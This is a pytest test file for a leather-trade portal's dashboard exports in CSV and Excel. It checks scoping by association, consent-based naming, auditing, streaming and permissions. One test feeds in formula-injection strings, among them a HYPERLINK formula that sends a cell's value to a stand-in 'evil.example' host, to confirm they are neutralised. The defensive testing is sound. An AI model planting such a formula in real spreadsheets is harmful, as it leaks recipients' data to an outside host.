"""The dashboard's exports (/insight/exports/<kind>.<csv|xlsx>): the files read back with the csv module and
openpyxl hold the rows made here and no others (another association's, another period's), cells a
spreadsheet would run as formulas are neutralised, companies are named only with both consents, every export
is audited, and who may export what."""

import csv
import hashlib
import io
import zipfile
from datetime import datetime, timedelta
from xml.etree import ElementTree

import openpyxl
import pytest
import sqlalchemy as sa

from portal.extensions import db
from portal.insight import exports as insight_exports
from portal.models import AuditLog, Company, ListingHsHeading, Outcome, OutcomeKind, OutcomeStatus
from portal.models.base import utcnow
from portal.models.company import VerificationStatus

from .. import factories

DAY = timedelta(days=1)
FORMATS = ("csv", "xlsx")
BOM = b"\xef\xbb\xbf"


def company(association, country, name=None, city=None, **over):
    made = factories.make_company(name=name, association=association, country=country, **over)
    if city is not None:
        made.city = city
        db.session.commit()
    return made


def pta(name=None, city=None, verified=True, **over):
    return company("PTA", "PK", name, city, verified=verified, **over)


def kla(name=None, **over):
    return company("KLA", "KZ", name, verified=True, **over)


def add(*rows):
    db.session.add_all(rows)
    db.session.commit()
    return rows[0]


def read(response, fmt) -> list[tuple]:
    """The file's rows, header first, cells as the reader's program sees them (XLSX keeps its types)."""
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    data = response.get_data()
    if fmt == "csv":
        assert data.startswith(BOM)
        return [tuple(row) for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))]
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [tuple(row) for row in workbook.active.iter_rows(values_only=True)]


def text(cell) -> str:
    """A cell as text, the same for both formats: dates as ISO days, empty as ""."""
    if cell is None:
        return ""
    if isinstance(cell, datetime):
        return cell.date().isoformat()
    return str(cell)


def rows_as_text(response, fmt) -> list[tuple]:
    return [tuple(text(c) for c in row) for row in read(response, fmt)]


def headers(names: str) -> tuple:
    return tuple(names.split("|"))


def iso(moment) -> str:
    return moment.date().isoformat()


def column(rows, header) -> list:
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


# --- members --------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_members_export_holds_the_members_who_joined_in_the_period(client_for, pta_staff, fmt):
    now = utcnow()
    sialkot = pta("Sialkot Tannery", city="Sialkot", created_at=now - 10 * DAY)
    factories.make_live_listing(sialkot, title="Wet blue")
    factories.make_live_listing(sialkot, title="Crust")
    factories.make_listing(sialkot, status="draft")  # not live
    pta("Lahore Hides", city="Lahore", verified=False, created_at=now - 20 * DAY)
    pta("Old Member", created_at=now - 200 * DAY)  # joined before the quarter
    kla("Shymkent Leather", created_at=now - 5 * DAY)  # the other association

    rows = rows_as_text(client_for(pta_staff).get(f"/insight/exports/members.{fmt}"), fmt)

    assert rows[0] == headers("Company|City|Country|Association|Verification status|Joined|Live listings")
    assert rows[1:] == [
        ("Lahore Hides", "Lahore", "Pakistan", "PTA", "Waiting for verification", iso(now - 20 * DAY), "0"),
        ("Sialkot Tannery", "Sialkot", "Pakistan", "PTA", "Verified", iso(now - 10 * DAY), "2"),
    ]


def test_a_custom_period_chooses_the_members(client_for, pta_staff):
    pta("January", created_at=datetime(2026, 1, 15))
    pta("March", created_at=datetime(2026, 3, 31, 23, 59))
    pta("April", created_at=datetime(2026, 4, 1))
    pta("December", created_at=datetime(2025, 12, 31, 23, 59))

    response = client_for(pta_staff).get("/insight/exports/members.csv?period=custom&from=2026-01-01&to=2026-03-31")

    assert column(read(response, "csv"), "Company") == ["January", "March"]
    assert "leather-bridge-pta-members-2026-01-01-to-2026-03-31.csv" in response.headers["Content-Disposition"]


def test_all_time_holds_every_member(client_for, pta_staff):
    pta("Founder", created_at=datetime(2019, 5, 1))
    pta("Newcomer")
    response = client_for(pta_staff).get("/insight/exports/members.csv?period=all")
    assert column(read(response, "csv"), "Company") == ["Founder", "Newcomer"]
    assert (
        f"leather-bridge-pta-members-until-{utcnow().date().isoformat()}.csv" in response.headers["Content-Disposition"]
    )


# --- listings -------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_listings_export_holds_the_listings_created_in_the_period(client_for, pta_staff, fmt):
    now = utcnow()
    ours = pta("Sialkot Tannery")
    offer = factories.make_live_listing(ours, title="Wet blue cattle hides")
    add(
        ListingHsHeading(listing_id=offer.id, heading="4107"),
        ListingHsHeading(listing_id=offer.id, heading="4104"),
    )
    factories.make_listing(ours, status="draft", title="Training wanted", type="training", direction="request")
    factories.make_listing(ours, status="published", title="Old offer", created_at=now - 200 * DAY)
    factories.make_live_listing(kla("Shymkent Leather"), title="Raw sheep skins")

    rows = rows_as_text(client_for(pta_staff).get(f"/insight/exports/listings.{fmt}?period=30d"), fmt)

    today = now.date().isoformat()
    assert rows == [
        ("Title", "Company", "Association", "Type", "Direction", "Status", "HS headings", "Created", "Published"),
        ("Wet blue cattle hides", "Sialkot Tannery", "PTA", "Trade", "Offer", "published", "4104 4107", today, today),
        ("Training wanted", "Sialkot Tannery", "PTA", "Training", "Request", "draft", "", today, ""),
    ]


def test_dates_are_real_dates_in_excel(client_for, pta_staff):
    factories.make_live_listing(pta(), title="Wet blue")
    rows = read(client_for(pta_staff).get("/insight/exports/listings.xlsx"), "xlsx")
    created, published = rows[1][7], rows[1][8]
    assert isinstance(created, datetime) and created.date() == utcnow().date()
    assert isinstance(published, datetime)


# --- the funnel -----------------------------------------------------------------------------------


def funnel_world():
    ours, theirs = pta("Sialkot Tannery"), kla("Shymkent Leather")
    listing = factories.make_live_listing(ours, title="Wet blue")
    accepted = factories.make_interest(listing, theirs, status="accepted", responded_at=utcnow())
    factories.make_interest(listing, kla("Almaty Hides"))
    factories.make_live_listing(theirs, title="Raw hides")
    return ours, theirs, accepted.conversation


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_funnel_export_has_the_dashboards_steps_and_shares(client_for, pta_staff, fmt):
    funnel_world()

    rows = read(client_for(pta_staff).get(f"/insight/exports/funnel.{fmt}"), fmt)

    assert rows[0] == ("Association", "Step", "Count", "Share of the step before")
    found = {row[1]: row[2:] for row in rows[1:]}
    assert [row[1] for row in rows[1:]] == [
        "Listings gone live",
        "Matches shown",
        "Expressions of interest",
        "Interests accepted",
        "Conversations",
        "Meetings held",
        "Outcomes recorded",
        "Outcomes confirmed",
    ]
    assert {row[0] for row in rows[1:]} == {"PTA"}
    if fmt == "xlsx":
        assert found["Expressions of interest"] == (2, None)  # after zero matches: no share
        assert found["Interests accepted"] == (1, 0.5)
        assert found["Conversations"] == (1, 1)
    else:
        assert found["Expressions of interest"] == ("2", "")
        assert found["Interests accepted"] == ("1", "0.5")
        assert found["Conversations"] == ("1", "1.0")


def test_the_funnel_share_is_a_percentage_in_excel(client_for, pta_staff):
    funnel_world()
    workbook = openpyxl.load_workbook(io.BytesIO(client_for(pta_staff).get("/insight/exports/funnel.xlsx").get_data()))
    assert workbook.active["D5"].value == 0.5 and workbook.active["D5"].number_format == "0.0%"


def test_admins_get_the_funnel_of_each_association_side_by_side(client_for, admin):
    funnel_world()
    response = client_for(admin).get("/insight/exports/funnel.csv")
    rows = read(response, "csv")
    assert [row[0] for row in rows[1:]] == ["KLA"] * 8 + ["PTA"] * 8
    counts = {(row[0], row[1]): row[2] for row in rows[1:]}
    assert counts[("KLA", "Listings gone live")] == "1" and counts[("KLA", "Expressions of interest")] == "0"
    assert counts[("PTA", "Expressions of interest")] == "2"
    assert "leather-bridge-all-funnel-" in response.headers["Content-Disposition"]


# --- outcomes -------------------------------------------------------------------------------------


def outcome(conversation, recorder, **over):
    fields = dict(
        conversation_id=conversation.id,
        recorded_by_company_id=recorder.id,
        kind=OutcomeKind.trade_contract,
        value_usd=50_000,
        status=OutcomeStatus.confirmed,
        decided_at=utcnow(),
    )
    return add(Outcome(**(fields | over)))


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_outcomes_export_names_companies_only_when_both_agreed(client_for, pta_staff, fmt):
    now = utcnow()
    ours, theirs = pta("Sialkot Tannery"), kla("Shymkent Leather")
    conversation = factories.make_interest(
        factories.make_live_listing(ours, title="Wet blue"), theirs, status="accepted"
    ).conversation
    outcome(conversation, ours, recorder_agrees_to_be_named=True, confirmer_agrees_to_be_named=True)
    outcome(conversation, theirs, value_usd=7_000, recorder_agrees_to_be_named=True)  # the other did not agree
    outcome(
        conversation,
        ours,
        kind=OutcomeKind.training_delivered,
        value_usd=None,
        status=OutcomeStatus.recorded,
        decided_at=None,
        created_at=now - 2 * DAY,
    )
    outcome(conversation, ours, value_usd=9, created_at=now - 300 * DAY, decided_at=now - 299 * DAY)  # long ago
    kla_only = factories.make_interest(factories.make_live_listing(kla(), title="Sheep"), theirs, status="accepted")
    outcome(kla_only.conversation, theirs, value_usd=1_000_000)  # no PTA member took part

    rows = rows_as_text(client_for(pta_staff).get(f"/insight/exports/outcomes.{fmt}"), fmt)

    today, before = now.date().isoformat(), (now - 2 * DAY).date().isoformat()
    assert rows[0] == headers(
        "Recorded|Confirmed or disputed|Kind|Value (USD)|Status|Recorded by|Recorder's association"
        "|Other company|Other company's association"
    )
    assert rows[1:] == [
        (before, "", "Training delivered", "", "waiting for confirmation", "", "PTA", "", "KLA"),
        (
            today,
            today,
            "Trade contract",
            "50000",
            "confirmed by both",
            "Sialkot Tannery",
            "PTA",
            "Shymkent Leather",
            "KLA",
        ),
        (today, today, "Trade contract", "7000", "confirmed by both", "", "KLA", "", "PTA"),
    ]


def test_an_outcome_between_the_associations_is_in_both_exports(client_for, pta_staff, kla_staff):
    ours, theirs = pta("Sialkot Tannery"), kla("Shymkent Leather")
    conversation = factories.make_interest(factories.make_live_listing(theirs, title="Raw"), ours, status="accepted")
    outcome(conversation.conversation, ours)
    for staff in (pta_staff, kla_staff):
        rows = read(client_for(staff).get("/insight/exports/outcomes.csv"), "csv")
        assert column(rows, "Value (USD)") == ["50000"]


# --- whose rows -----------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["members", "listings", "funnel", "outcomes"])
@pytest.mark.parametrize("fmt", FORMATS)
def test_staff_never_get_another_associations_rows_even_when_the_url_names_it(client_for, pta_staff, kind, fmt):
    ours, theirs, ours_with_theirs = funnel_world()
    outcome(ours_with_theirs, ours, value_usd=700)  # PTA's, the names not agreed
    conversation = factories.make_interest(factories.make_live_listing(theirs, title="Raw"), kla(), status="accepted")
    outcome(conversation.conversation, theirs, recorder_agrees_to_be_named=True, confirmer_agrees_to_be_named=True)

    response = client_for(pta_staff).get(f"/insight/exports/{kind}.{fmt}?association=KLA&period=all")
    rows = rows_as_text(response, fmt)

    cells = {cell for row in rows[1:] for cell in row}
    assert rows[1:], "the export is not empty"
    assert "Shymkent Leather" not in cells and "Raw" not in cells and "Almaty Hides" not in cells
    if kind in ("members", "listings", "funnel"):
        assert set(column(rows, "Association")) == {"PTA"}
    assert f"leather-bridge-pta-{kind}-" in response.headers["Content-Disposition"]


def test_admins_choose_one_association_or_all(client_for, admin):
    pta("Sialkot Tannery")
    kla("Shymkent Leather")
    browser = client_for(admin)
    assert column(read(browser.get("/insight/exports/members.csv?association=KLA"), "csv"), "Company") == [
        "Shymkent Leather"
    ]
    everyone = read(browser.get("/insight/exports/members.csv"), "csv")
    assert column(everyone, "Company") == ["Shymkent Leather", "Sialkot Tannery"]
    assert column(everyone, "Association") == ["KLA", "PTA"]


# --- cells a spreadsheet would run ----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1)", "+1", "-1", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_formula_cells_are_neutralised(client_for, pta_staff, fmt):
    for name in FORMULAS:
        pta(name)

    rows = read(client_for(pta_staff).get(f"/insight/exports/members.{fmt}"), fmt)

    names = column(rows, "Company")
    expected = ["'" + name for name in FORMULAS]
    if fmt == "xlsx":  # XML reads a carriage return back as a line feed
        expected = [name.replace("\r", "\n") for name in expected]
    assert sorted(names) == sorted(expected)
    if fmt == "xlsx":
        workbook = openpyxl.load_workbook(
            io.BytesIO(client_for(pta_staff).get("/insight/exports/members.xlsx").get_data())
        )
        assert all(cell.data_type == "s" for cell in workbook.active["A"][1:])  # text, no formula


def test_control_characters_are_dropped_from_excel_before_the_formula_check(client_for, pta_staff):
    pta("\x01=1+1")
    rows = read(client_for(pta_staff).get("/insight/exports/members.xlsx"), "xlsx")
    assert column(rows, "Company") == ["'=1+1"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_negative_numbers_stay_numbers(client_for, pta_staff, fmt):
    ours, theirs = pta("-1"), kla("=1+1")
    conversation = factories.make_interest(
        factories.make_live_listing(ours, title="Wet blue"), theirs, status="accepted"
    )
    outcome(
        conversation.conversation,
        ours,
        value_usd=-5,
        recorder_agrees_to_be_named=True,
        confirmer_agrees_to_be_named=True,
    )

    response = client_for(pta_staff).get(f"/insight/exports/outcomes.{fmt}")
    rows = read(response, fmt)

    assert column(rows, "Recorded by") == ["'-1"] and column(rows, "Other company") == ["'=1+1"]
    value = column(rows, "Value (USD)")[0]
    if fmt == "xlsx":
        assert value == -5 and isinstance(value, int)
    else:
        assert value == "-5"
        assert ",-5," in response.get_data(as_text=True)  # written bare, not quoted as text


# --- languages ------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_cyrillic_and_urdu_text_survive(client_for, pta_staff, fmt):
    pta("Кожевенный завод «Шымкент»", city="Шымкент")
    pta("سیالکوٹ ٹینری", city="سیالکوٹ")

    rows = read(client_for(pta_staff).get(f"/insight/exports/members.{fmt}"), fmt)

    assert sorted(zip(column(rows, "Company"), column(rows, "City"), strict=True)) == [
        ("Кожевенный завод «Шымкент»", "Шымкент"),
        ("سیالکوٹ ٹینری", "سیالکوٹ"),
    ]


def test_an_urdu_readers_workbook_reads_right_to_left(client_for):
    staff = factories.make_user(role="staff", association="PTA", locale="ur")
    pta("Sialkot Tannery")
    data = client_for(staff).get("/insight/exports/members.xlsx").get_data()
    assert openpyxl.load_workbook(io.BytesIO(data)).active.sheet_view.rightToLeft


# --- the answer itself ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "mimetype"),
    [("csv", "text/csv"), ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")],
)
def test_an_export_is_a_private_download(client_for, pta_staff, fmt, mimetype):
    response = client_for(pta_staff).get(f"/insight/exports/listings.{fmt}?period=year")
    assert response.status_code == 200
    assert response.mimetype == mimetype
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    first = (utcnow() - 365 * DAY).date().isoformat()
    assert f'filename="leather-bridge-pta-listings-{first}-to-{utcnow().date().isoformat()}.{fmt}"' in disposition
    assert "no-store" in response.headers["Cache-Control"]


def test_a_large_csv_export_is_streamed_in_pieces(app, pta_staff, client_for):
    association_id = factories.association_obj_id("PTA")
    db.session.add_all(
        Company(name=f"Member {n:04d}", country="PK", association_id=association_id, status=VerificationStatus.verified)
        for n in range(1200)
    )
    db.session.commit()

    response = client_for(pta_staff).get("/insight/exports/members.csv", buffered=False)
    try:
        assert response.is_streamed
        chunks = list(response.response)
    finally:
        response.close()

    assert len(chunks) >= 3  # the rows went out as they were read
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))
    assert len(rows) == 1 + 1200 and rows[1][0] == "Member 0000" and rows[-1][0] == "Member 1199"


def test_a_large_excel_export_is_streamed_in_pieces(app, pta_staff, client_for, monkeypatch):
    # Names as unlike each other as real ones: rows that differ only in a number compress so well that zlib
    # holds the whole sheet in one block, and nothing would be sent before the end.
    association_id = factories.association_obj_id("PTA")
    db.session.add_all(
        Company(
            name=f"Member {n:04d} {hashlib.sha256(str(n).encode()).hexdigest()}",
            country="PK",
            association_id=association_id,
            status=VerificationStatus.verified,
        )
        for n in range(1200)
    )
    db.session.commit()
    read = []  # the rows read from the database so far
    table = insight_exports.table

    def counted_table(*args):
        made = table(*args)
        made.rows = (read.append(row) or row for row in made.rows)
        return made

    monkeypatch.setattr(insight_exports, "table", counted_table)

    response = client_for(pta_staff).get("/insight/exports/members.xlsx", buffered=False)
    try:
        assert response.is_streamed
        chunks, read_by_then = [], []
        for chunk in response.response:
            chunks.append(chunk)
            read_by_then.append(len(read))
    finally:
        response.close()

    assert len(chunks) >= 3  # the rows went out as they were read:
    assert read_by_then[0] == 0 and read_by_then[-2] < 1200  # the first bytes before any row, more before the last
    rows = list(openpyxl.load_workbook(io.BytesIO(b"".join(chunks))).active.iter_rows(values_only=True))
    assert len(rows) == 1 + 1200 and rows[1][0].startswith("Member 0000 ") and rows[-1][0].startswith("Member 1199 ")


def test_the_workbook_is_a_well_formed_package_with_a_bold_frozen_header(client_for, pta_staff):
    pta("Sialkot Tannery & Sons <PK>", city="  Sialkot\n")
    data = client_for(pta_staff).get("/insight/exports/members.xlsx").get_data()

    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert package.testzip() is None
        names = package.namelist()
        assert {"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/worksheets/sheet1.xml"} <= set(names)
        for name in names:
            if name.endswith((".xml", ".rels")):
                ElementTree.fromstring(package.read(name))  # noqa: S314 - our own file; raises if not well-formed
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Members"
    assert all(cell.font.b for cell in sheet[1]) and not sheet["A2"].font.b
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 36
    assert (sheet["A2"].value, sheet["B2"].value) == ("Sialkot Tannery & Sons <PK>", "  Sialkot\n")


def test_every_export_is_audited_with_its_period_and_association(client_for, pta_staff, admin):
    client_for(pta_staff).get(
        "/insight/exports/outcomes.xlsx?period=custom&from=2026-01-01&to=2026-03-31&association=KLA"
    )
    client_for(admin).get("/insight/exports/members.csv?period=all")

    rows = db.session.scalars(sa.select(AuditLog).order_by(AuditLog.id)).all()
    assert [(r.action, r.actor_id, r.object_type) for r in rows] == [
        ("export.outcomes", pta_staff.id, "export"),
        ("export.members", admin.id, "export"),
    ]
    staff_row, admin_row = rows
    assert staff_row.association_id == factories.association_obj_id("PTA")
    assert staff_row.detail == {
        "format": "xlsx",
        "period": "2026-01-01 – 2026-03-31",
        "period_key": "custom",
        "association": "PTA",
    }
    assert admin_row.association_id is None
    assert (
        admin_row.detail["association"] is None and admin_row.detail["period"] == f"… – {utcnow().date().isoformat()}"
    )


def test_a_head_request_gets_the_download_headers_but_is_no_export(client_for, pta_staff):
    browser = client_for(pta_staff)

    probe = browser.head("/insight/exports/listings.csv?period=all")

    assert probe.status_code == 200 and probe.data == b""
    assert probe.headers["Content-Disposition"].startswith("attachment")
    assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditLog)) == 0
    browser.get("/insight/exports/listings.csv?period=all")
    assert db.session.scalars(sa.select(AuditLog.action)).all() == ["export.listings"]


def test_exports_are_rate_limited_on_their_own_counter(app, client_for, pta_staff):
    app.config["RATELIMIT_EXPORT_ACCOUNT"] = "2/minute"
    browser = client_for(pta_staff)
    statuses = [browser.get("/insight/exports/members.csv").status_code for _ in range(3)]
    assert statuses == [200, 200, 429]
    assert browser.get("/search?q=hides").status_code == 200  # searching is counted apart


# --- who may ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_members_are_refused_and_visitors_sent_to_log_in(client, client_for, member, fmt):
    assert client_for(member).get(f"/insight/exports/members.{fmt}").status_code == 403
    response = client.get(f"/insight/exports/outcomes.{fmt}")
    assert response.status_code == 302 and "/auth/login" in response.headers["Location"]
    assert db.session.scalar(sa.select(sa.func.count(AuditLog.id)).where(AuditLog.action.like("export.%"))) == 0


@pytest.mark.parametrize(
    "path",
    ["/insight/exports/users.csv", "/insight/exports/members.pdf", "/insight/exports/members", "/insight/exports/"],
)
def test_an_unknown_export_or_format_is_not_found(client_for, pta_staff, path):
    assert client_for(pta_staff).get(path).status_code == 404


# --- the dashboard's links ------------------------------------------------------------------------


def test_the_dashboard_links_every_export_with_its_filter(client_for, pta_staff, admin):
    html = client_for(pta_staff).get("/insight/?period=custom&from=2026-01-01&to=2026-03-31").get_data(as_text=True)
    for kind in ("members", "listings", "funnel", "outcomes"):
        for fmt in FORMATS:
            assert f'href="/insight/exports/{kind}.{fmt}?period=custom&amp;from=2026-01-01&amp;to=2026-03-31"' in html
    html = client_for(admin).get("/insight/?period=year&association=KLA").get_data(as_text=True)
    assert 'href="/insight/exports/outcomes.xlsx?period=year&amp;association=KLA"' in html
    html = client_for(admin).get("/insight/?period=30d").get_data(as_text=True)
    assert 'href="/insight/exports/members.csv?period=30d"' in html


def test_the_export_reads_as_a_sentence_in_the_staff_audit_log(client_for, pta_staff):
    browser = client_for(pta_staff)
    browser.get("/insight/exports/members.csv?period=custom&from=2026-01-01&to=2026-03-31")
    html = browser.get("/staff/audit").get_data(as_text=True)
    assert "exported the members of" in html and "CSV · 2026-01-01 – 2026-03-31" in html
